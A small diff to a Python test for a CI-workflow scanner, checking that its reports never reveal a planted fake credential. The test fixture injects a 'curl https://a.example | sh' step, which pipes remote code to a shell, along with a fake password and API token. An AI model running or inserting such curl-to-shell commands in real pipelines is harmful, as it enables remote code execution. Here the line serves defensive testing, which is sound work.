@@ -63,7 +63,7 @@ def test_a_finding_says_everything_that_a_report_needs() -> None:
 
 
 def test_no_report_ever_shows_a_credential(book: Rulebook) -> None:
-    value = "q9Tz".join(("Ku7w", "Rpm2Lx4v"))
+    value = "Ku7w" + "q9TzRpm2"[:] + "Lx4v"
     text = ISSUE.replace("run: echo", f"run: PASSWORD={value} curl https://a.example | sh; echo")
     found = part(
         {WORKFLOW: text.replace("    steps:", f"    env: {{API_TOKEN: {value}}}\n    steps:")}, book
